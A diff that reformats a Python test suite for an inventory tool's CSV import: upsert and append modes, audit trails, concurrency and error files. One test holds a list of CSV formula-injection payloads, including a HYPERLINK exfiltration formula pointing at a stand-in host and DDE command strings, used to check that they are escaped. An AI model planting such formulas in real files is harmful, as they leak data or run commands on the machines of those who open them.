@@ -20,10 +20,22 @@ HEADER = "item_name,category,quantity,unit_price,description,supplier,location,m
 
 def items(inv: ip.Inventory) -> list[dict]:
     page = inv.query(sort_by="id", limit=10_000)
-    columns = ["item_name", "category", "quantity", "unit_price", "description", "supplier", "location",
-               "minimum_stock", "sku", "version"]
-    return [{k: (None if v is None or v != v else v) for k, v in row.items()}
-            for row in page.rows[columns].to_dict("records")]
+    columns = [
+        "item_name",
+        "category",
+        "quantity",
+        "unit_price",
+        "description",
+        "supplier",
+        "location",
+        "minimum_stock",
+        "sku",
+        "version",
+    ]
+    return [
+        {k: (None if v is None or v != v else v) for k, v in row.items()}
+        for row in page.rows[columns].to_dict("records")
+    ]
 
 
 def audit(inv: ip.Inventory, action: str) -> list[dict]:
@@ -39,19 +51,41 @@ def movements(inv: ip.Inventory) -> list[dict]:
 def test_append_imports_valid_rows_exactly_and_reports_the_rest(inv):
     report = inv.import_csv(
         f"{HEADER}\n"
-        "  Drill ,Tools,3,9.5,\"Cordless, 18 V\nwith case\",Acme,Aisle 1,0,DR-1\n"
+        '  Drill ,Tools,3,9.5,"Cordless, 18 V\nwith case",Acme,Aisle 1,0,DR-1\n'
         "Saw,Tools,-1,abc,,,,,SAW-1\n"
-        "Glue,Office,0,0,,,,,\n", file_name="items.csv")
+        "Glue,Office,0,0,,,,,\n",
+        file_name="items.csv",
+    )
     assert (report.rows, report.inserted, report.updated, report.skipped) == (3, 2, 0, 1)
-    assert report.errors[["row", "column", "value"]].values.tolist() == [[3, "quantity", "-1"],
-                                                                         [3, "unit_price", "abc"]]
+    assert report.errors[["row", "column", "value"]].values.tolist() == [
+        [3, "quantity", "-1"],
+        [3, "unit_price", "abc"],
+    ]
     assert items(inv) == [
-        {"item_name": "Drill", "category": "Tools", "quantity": 3, "unit_price": Decimal("9.50"),
-         "description": "Cordless, 18 V\nwith case", "supplier": "Acme", "location": "Aisle 1", "minimum_stock": 0,
-         "sku": "DR-1", "version": 1},
-        {"item_name": "Glue", "category": "Office", "quantity": 0, "unit_price": Decimal("0.00"),
-         "description": None, "supplier": None, "location": None, "minimum_stock": None, "sku": None,
-         "version": 1},
+        {
+            "item_name": "Drill",
+            "category": "Tools",
+            "quantity": 3,
+            "unit_price": Decimal("9.50"),
+            "description": "Cordless, 18 V\nwith case",
+            "supplier": "Acme",
+            "location": "Aisle 1",
+            "minimum_stock": 0,
+            "sku": "DR-1",
+            "version": 1,
+        },
+        {
+            "item_name": "Glue",
+            "category": "Office",
+            "quantity": 0,
+            "unit_price": Decimal("0.00"),
+            "description": None,
+            "supplier": None,
+            "location": None,
+            "minimum_stock": None,
+            "sku": None,
+            "version": 1,
+        },
     ]
     stored = inv.get(int(inv.query(search="Drill").rows.id[0]))
     assert stored["created_by"] == stored["updated_by"] == "admin@example.com"
@@ -61,8 +95,14 @@ def test_append_imports_valid_rows_exactly_and_reports_the_rest(inv):
 def test_money_is_stored_exactly_in_each_backend(inv):
     inv.import_csv(f"{HEADER}\nA,B,1,12.5,,,,,\nC,D,1,9999999999.99,,,,,\n")
     with inv.reading() as conn:
-        raw = [r[0] for r in conn.execute(sa.text(
-            f"SELECT unit_price FROM {conn.dialect.identifier_preparer.format_table(inv.t.items)} ORDER BY id"))]
+        raw = [
+            r[0]
+            for r in conn.execute(
+                sa.text(
+                    f"SELECT unit_price FROM {conn.dialect.identifier_preparer.format_table(inv.t.items)} ORDER BY id"
+                )
+            )
+        ]
     if inv.db.dialect == "sqlite":
         assert raw == [1250, 999999999999]  # integer cents
     else:
@@ -75,7 +115,8 @@ def test_uploading_the_same_file_twice_does_not_double_the_stock(inv):
     again = inv.import_csv(data)
     assert (again.inserted, again.skipped) == (0, 2)
     assert set(again.errors["message"]) == {
-        "sku already exists in the inventory; import in upsert mode to update that item"}
+        "sku already exists in the inventory; import in upsert mode to update that item"
+    }
     assert inv.summary()["units"] == 7
     upserted = inv.import_csv(data, mode="upsert")
     assert (upserted.inserted, upserted.updated, upserted.unchanged, upserted.skipped) == (0, 0, 2, 0)
@@ -88,7 +129,8 @@ def test_an_existing_sku_is_reported_alongside_the_rows_other_problems(inv):
     report = inv.import_csv(f"{HEADER}\nDrill,Tools,-3,9.5,,,,,DR-1\n")
     assert report.errors[["column", "message"]].values.tolist() == [
         ["quantity", "Quantity must be 0 or greater"],
-        ["sku", "sku already exists in the inventory; import in upsert mode to update that item"]]
+        ["sku", "sku already exists in the inventory; import in upsert mode to update that item"],
+    ]
 
 
 def test_a_sku_repeated_in_the_file_rejects_the_later_rows(inv):
@@ -99,26 +141,39 @@ def test_a_sku_repeated_in_the_file_rejects_the_later_rows(inv):
     assert report.inserted == 1502
     assert report.errors[["row", "message"]].values.tolist() == [
         [4, "sku is repeated in this file (first used on row 2)"],
-        [1505, "sku is repeated in this file (first used on row 3)"]]
+        [1505, "sku is repeated in this file (first used on row 3)"],
+    ]
 
 
 def test_upsert_inserts_unknown_and_updates_known_skus_with_movements_and_audit(inv):
     inv.import_csv(f"{HEADER}\nDrill,Tools,3,9.50,Old text,Acme,Aisle 1,2,DR-1\nSaw,Tools,4,5,,,,,SAW-1\n")
-    report = inv.import_csv("sku,item_name,category,quantity,unit_price\n"
-                            "DR-1,Drill,Tools,10,9.75\n"
-                            "SAW-1,Saw,Tools,4,5.00\n"
-                            "NEW-1,Hammer,Tools,1,3\n", mode="upsert", file_name="update.csv")
+    report = inv.import_csv(
+        "sku,item_name,category,quantity,unit_price\n"
+        "DR-1,Drill,Tools,10,9.75\n"
+        "SAW-1,Saw,Tools,4,5.00\n"
+        "NEW-1,Hammer,Tools,1,3\n",
+        mode="upsert",
+        file_name="update.csv",
+    )
     assert (report.inserted, report.updated, report.unchanged, report.skipped) == (1, 1, 1, 0)
     assert report.to_dict()["warnings"] == ["1 row matched existing items and changed nothing."]
     drill, saw, hammer = items(inv)
     # Columns the file does not have keep their values; the version moves on only for the changed item.
-    assert drill == {"item_name": "Drill", "category": "Tools", "quantity": 10, "unit_price": Decimal("9.75"),
-                     "description": "Old text", "supplier": "Acme", "location": "Aisle 1", "minimum_stock": 2,
-                     "sku": "DR-1", "version": 2}
+    assert drill == {
+        "item_name": "Drill",
+        "category": "Tools",
+        "quantity": 10,
+        "unit_price": Decimal("9.75"),
+        "description": "Old text",
+        "supplier": "Acme",
+        "location": "Aisle 1",
+        "minimum_stock": 2,
+        "sku": "DR-1",
+        "version": 2,
+    }
     assert saw["version"] == 1 and hammer["sku"] == "NEW-1"
     (move,) = movements(inv)
-    assert (move["delta"], move["quantity_after"], move["kind"], move["batch_id"]) == (7, 10, "import",
-                                                                                       report.batch_id)
+    assert (move["delta"], move["quantity_after"], move["kind"], move["batch_id"]) == (7, 10, "import", report.batch_id)
     assert "update.csv" in move["reason"]
     (update,) = audit(inv, "update")
     assert json.loads(update["changes"]) == {"quantity": [3, 10], "unit_price": ["9.50", "9.75"]}
@@ -131,16 +186,22 @@ def test_upsert_needs_a_sku_in_every_row(inv):
     report = inv.import_csv(f"{HEADER}\nA,B,1,1,,,,,\nC,D,1,1,,,,,S\n", mode="upsert")
     assert (report.inserted, report.skipped) == (1, 1)
     assert report.errors.to_dict("records") == [
-        {"row": 2, "column": "sku", "value": "", "message": "sku is required in upsert mode (rows are matched to "
-                                                             "items by sku)"}]
+        {
+            "row": 2,
+            "column": "sku",
+            "value": "",
+            "message": "sku is required in upsert mode (rows are matched to items by sku)",
+        }
+    ]
     with pytest.raises(ImportRefusedError, match="no sku column"):
         inv.import_csv("item_name,category,quantity,unit_price\nA,B,1,1\n", mode="upsert")
 
 
 def test_upsert_can_clear_optional_fields_the_file_has_but_leaves_them_blank(inv):
     inv.import_csv(f"{HEADER}\nA,B,1,1,Text,Acme,Here,3,S\n")
-    report = inv.import_csv("sku,item_name,category,quantity,unit_price,supplier,minimum_stock\nS,A,B,1,1,,\n",
-                            mode="upsert")
+    report = inv.import_csv(
+        "sku,item_name,category,quantity,unit_price,supplier,minimum_stock\nS,A,B,1,1,,\n", mode="upsert"
+    )
     assert report.updated == 1
     (item,) = items(inv)
     assert (item["supplier"], item["minimum_stock"], item["description"]) == (None, None, "Text")
@@ -172,8 +233,16 @@ def test_one_audit_entry_per_batch_with_its_counts(inv):
     report = inv.import_csv(f"{HEADER}\nA,B,1,1,,,,,\nC,D,x,1,,,,,\n", file_name="batch.csv")
     (entry,) = audit(inv, "import")
     assert entry["batch_id"] == report.batch_id and entry["actor"] == "admin@example.com"
-    assert json.loads(entry["detail"]) == {"file": "batch.csv", "mode": "append", "atomic": False, "rows": 2,
-                                           "inserted": 1, "updated": 0, "unchanged": 0, "skipped": 1}
+    assert json.loads(entry["detail"]) == {
+        "file": "batch.csv",
+        "mode": "append",
+        "atomic": False,
+        "rows": 2,
+        "inserted": 1,
+        "updated": 0,
+        "unchanged": 0,
+        "skipped": 1,
+    }
     # The inserted item has its own entry too (tests/integration/test_audit_trail.py checks its contents).
     (add,) = audit(inv, "add")
     assert add["batch_id"] == report.batch_id and add["item_id"] == int(inv.query().rows.id[0])
@@ -218,12 +287,13 @@ def test_viewers_may_not_import_even_a_dry_run(inv):
 
 
 def test_the_error_file_can_be_fixed_and_uploaded_again(inv):
-    report = inv.import_csv("Item Name;Category;Quantity;Unit Price;Colour\nA;B;1;1;red\nC;D;-2;1;blue\n"
-                            "E;F;3\n")
+    report = inv.import_csv("Item Name;Category;Quantity;Unit Price;Colour\nA;B;1;1;red\nC;D;-2;1;blue\nE;F;3\n")
     rejected = list(csv.reader(io.StringIO(report.error_csv()), delimiter=";"))
-    assert rejected == [["Item Name", "Category", "Quantity", "Unit Price", "Colour", "error"],
-                        ["C", "D", "'-2", "1", "blue", "Quantity must be 0 or greater"],  # escaped like an export
-                        ["E", "F", "3", "", "", "Unit price is required"]]
+    assert rejected == [
+        ["Item Name", "Category", "Quantity", "Unit Price", "Colour", "error"],
+        ["C", "D", "'-2", "1", "blue", "Quantity must be 0 or greater"],  # escaped like an export
+        ["E", "F", "3", "", "", "Unit price is required"],
+    ]
     fixed = report.error_csv().replace(";'-2;", ";2;").replace("E;F;3;;", "E;F;3;4;")
     again = inv.import_csv(fixed)
     assert (again.inserted, again.skipped) == (2, 0)
@@ -245,8 +315,13 @@ def test_table_and_schema_names_from_settings_are_quoted(db_url):
 
 # -- the error file is formula-escaped like an export, and reads back as the original rows --------------------------
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "-2+3", "'=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "'=1+1",
+]
 
 
 def test_the_error_file_escapes_hostile_cells_and_reads_back_as_the_original(inv):
@@ -266,7 +341,8 @@ def test_the_error_file_escapes_hostile_cells_and_reads_back_as_the_original(inv
     assert (again.inserted, again.skipped) == (len(HOSTILE), 0)
     stored = {row["sku"]: row for row in items(inv)}
     assert [stored[f"S-{i}"]["item_name"] for i in range(len(HOSTILE))] == [
-        n if not n.startswith("'=") else n[1:] for n in HOSTILE]  # "'=1+1" in a file is export's escape of "=1+1"
+        n if not n.startswith("'=") else n[1:] for n in HOSTILE
+    ]  # "'=1+1" in a file is export's escape of "=1+1"
     assert {row["description"] for row in stored.values()} == {"=cmd()"}  # the original cell, trimmed
 
 
@@ -294,8 +370,9 @@ def test_concurrent_upsert_imports_of_overlapping_skus_all_succeed_consistently(
     admin = ip.connect(pg_url, user="admin@example.com", role="admin", settings=settings)
     existing = [f"OLD-{i:05d}" for i in range(3_000)]
     new = [f"NEW-{i:05d}" for i in range(1_500)]  # inserted by whichever import comes first
-    seed = admin.import_csv("sku,item_name,category,quantity,unit_price\n"
-                            + "".join(f"{s},Part {s},Parts,1,1.00\n" for s in existing))
+    seed = admin.import_csv(
+        "sku,item_name,category,quantity,unit_price\n" + "".join(f"{s},Part {s},Parts,1,1.00\n" for s in existing)
+    )
     files = [_upsert_file(n, existing, new) for n in range(CONCURRENT_IMPORTS)]
     barrier = threading.Barrier(CONCURRENT_IMPORTS)
     results: dict[int, object] = {}
@@ -329,8 +406,14 @@ def test_concurrent_upsert_imports_of_overlapping_skus_all_succeed_consistently(
     # Each item's movements form one unbroken chain from its first quantity to the stored one.
     start = {s: 1 for s in existing}
     with admin.reading() as conn:
-        first_add = {r.item_id: json.loads(r.changes)["quantity"][1] for r in conn.execute(
-            sa.select(admin.t.audit).where(admin.t.audit.c.action == "add", admin.t.audit.c.batch_id != seed.batch_id))}
+        first_add = {
+            r.item_id: json.loads(r.changes)["quantity"][1]
+            for r in conn.execute(
+                sa.select(admin.t.audit).where(
+                    admin.t.audit.c.action == "add", admin.t.audit.c.batch_id != seed.batch_id
+                )
+            )
+        }
     by_item: dict[int, list[dict]] = {}
     for move in movements(admin):
         by_item.setdefault(move["item_id"], []).append(move)
@@ -363,8 +446,9 @@ def test_a_deadlock_victim_gets_one_clear_line_from_the_cli_not_a_traceback(db_u
     monkeypatch.setattr(ItemWriter, "existing", deadlocked)
     source = tmp_path / "items.csv"
     source.write_text(f"{HEADER}\nA,B,1,1,,,,,S-1\n", encoding="utf-8")
-    code = cli.main(["--database-url", db_url, "--user", "admin@example.com", "import", str(source), "--mode",
-                     "upsert"])
+    code = cli.main(
+        ["--database-url", db_url, "--user", "admin@example.com", "import", str(source), "--mode", "upsert"]
+    )
     err = capsys.readouterr().err
     assert code == 2 and "Traceback" not in err and len(err.strip().splitlines()) == 1
     assert "nothing was imported. Please import the file again." in err
